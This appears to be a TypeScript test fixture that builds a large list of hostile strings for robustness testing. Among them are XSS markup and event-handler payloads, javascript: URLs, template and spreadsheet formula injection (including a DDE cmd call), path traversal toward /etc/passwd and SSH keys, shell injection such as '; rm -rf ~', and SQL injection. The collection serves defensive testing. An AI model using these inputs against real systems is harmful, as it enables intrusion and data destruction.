/** Calls what a page has only where something of the content ran. */
const hit = 'hit()';

const tags = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'style',
  'base',
  'form',
  'details',
  'video',
  'math',
  'textarea',
  'title',
  'noscript',
  'template',
  'select',
  'body',
  'plaintext',
  'xmp',
  'marquee',
  'input',
];
const openings = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</script>',
  '</textarea></style>',
  '</p></div></main>',
  '<!--',
  '<![CDATA[',
];
const carriers = [
  (tag: string) => `<${tag}>${hit}</${tag}>`,
  (tag: string) => `<${tag} src=x href="javascript:${hit}" onerror=${hit} onload="${hit}">`,
  (tag: string) => `<${tag}/onfocus='${hit}' autofocus tabindex=1 style="position:fixed;inset:0">`,
  (tag: string) => `<${tag.toUpperCase()}\tONTOGGLE=${hit} open`,
];
const markup = openings.flatMap((opening, o) =>
  tags.flatMap((tag, t) =>
    [0, 1].map((n) => opening + (carriers[(o + t + n) % carriers.length]?.(tag) ?? '')),
  ),
);

const attributes = ['"', "'", '`', ''].flatMap((quote) =>
  ['onmouseover', 'onfocus autofocus', 'style', 'srcdoc', 'formaction'].map(
    (name) => `${quote} ${name}=${quote}${hit}${quote} x=${quote}`,
  ),
);

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'vbscript:',
  'data:text/html,',
  ' javascript:',
  'file:///etc/',
].flatMap((scheme) => [`${scheme}${hit}`, `href=${scheme}${hit}`, `url(${scheme}${hit})`]);

// Placeholders of other languages are texts here.
const templates = [
  '{{HIT}}',
  `$${'{HIT}'}`,
  '<%= HIT %>',
  '#{HIT}',
  '{%HIT%}',
  '[[HIT]]',
  '{HIT}',
  '$(HIT)',
  "{{constructor.constructor('HIT')()}}",
  '@{HIT}',
  '<?php HIT ?>',
  '<!--#exec cmd="HIT" -->',
  '%HIT%',
  '{{{HIT}}}',
  '{"a":HIT}',
  'import x from "HIT"',
  'export const a = HIT',
  '{/* HIT */}',
  '$&',
  "$'",
  '$1$$',
  '%s%n%d',
  '\\u003cscript\\u003e',
].map((each) => each.replaceAll('HIT', hit));

const formulas = [
  '=1+1',
  '=HYPERLINK("https://example.org/"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  "'=1",
  '=IMPORTXML("https://example.org/","//a")',
  '"=1","=2"',
  '1,2;3\t4',
];

const paths = [
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'C:\\Users\\',
  '\\\\server\\share',
  '/dev/null',
  'file:///etc/passwd',
  '%2e%2e%2f%00',
  'con',
  'nul.txt',
  'a/../b',
  '//example.org/x',
  './.git/config',
  '?q=1#x',
  '~/.ssh/id',
  'a|b>c',
  '; rm -rf ~',
  '$(id)',
  '`id`',
  "' OR '1'='1",
  "Robert'); DROP TABLE levels;--",
  '&& exit',
  '*',
  '../',
  '.',
  '..',
];

const invisible = [
  0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a,
  0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x3164, 0xfe0f, 0xfeff,
  0xfff9, 0xfffc, 0xfffd, 0xe0001, 0xe007f, 0x10ffff,
].flatMap((code) => {
  const letter = String.fromCodePoint(code);
  return [`before${letter}after`, `${letter}at the start`, `twice ${letter}${letter} in a row`];
});

const words = [
  'undefined',
  'null',
  'NaN',
  'true',
  '0',
  '-0',
  '1e309',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  'None',
  'nil',
  'Infinity',
  'content',
  'work',
  'top',
  'location',
];

const scripts = [
  'שלום לכולם',
  'مرحبا بالجميع',
  'مرحبا (abc) 123',
  '日本語の長い文章がここに続きますが空白はありません',
  'Ｆｕｌｌ　ｗｉｄｔｈ',
  '👩‍👩‍👧‍👦👨🏿‍🚀🏳️‍🌈',
  '𝕳𝖊𝖑𝖑𝖔',
  'İıſß',
  'ﷺ',
  `a${'\u0301'.repeat(40)}`,
  'H\u0336e\u0337l\u0338l\u0335o\u0334',
  'ไม่มีช่องว่างระหว่างคำในภาษาไทย',
  'नमस्ते',
  '‮evil‬',
  '⁦left⁩',
];

const long = [
  'W'.repeat(300),
  'i'.repeat(600),
  'Donaudampfschifffahrtsgesellschaft'.repeat(8),
  'a-b'.repeat(120),
  `https://example.com/${'path/'.repeat(60)}`,
  '漢'.repeat(200),
  '0123456789'.repeat(40),
  '._'.repeat(150),
  'A B '.repeat(150),
  '/'.repeat(300),
  '👍'.repeat(120),
  `${'\u00a0a'.repeat(150)}`,
];

const markdown = [
  '# no heading',
  '## no heading',
  '- no list',
  '1. no list',
  '> no quotation',
  '---',
  '***',
  '    no code',
  '```\nno code',
  'no heading\n===',
  '[no]: /address',
  '| a | b |\n|---|---|',
  '~~~',
  '<https://example.org/>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;b&#62;',
  '&amp;amp;',
  '\\<b\\>',
  '*one **two*',
  '[[c]](#d)',
  '`<b>`',
  '`` ` ``',
  '***all***',
  '_a_ __b__',
  'a  \nb',
  'a\\\nb',
  'one\n\ntwo',
  '<!-- a -->',
  '<b>bold</b>',
  '<br>',
  '</li></ul>',
  '</p>',
  '<a href="https://example.org/">a</a>',
];

/**
 * Strings that have broken pages, tables or programs somewhere: more than seven hundred, each once, in one
 * order. What the check refuses is not among them: control characters, and Markdown links that run code.
 */
export const hostileStrings: readonly string[] = interleaved([
  markup,
  markdown,
  invisible,
  long,
  templates,
  scripts,
  attributes,
  paths,
  addresses,
  formulas,
  words,
]);

/** One of each list in turn, so that neighbouring fields get strings of different kinds. */
function interleaved(lists: readonly (readonly string[])[]): string[] {
  const all = lists.flatMap((list) => list.map((text, n) => ({ text, at: (n + 0.5) / list.length })));
  return [...new Set(all.sort((a, b) => a.at - b.at).map(({ text }) => text))];
}
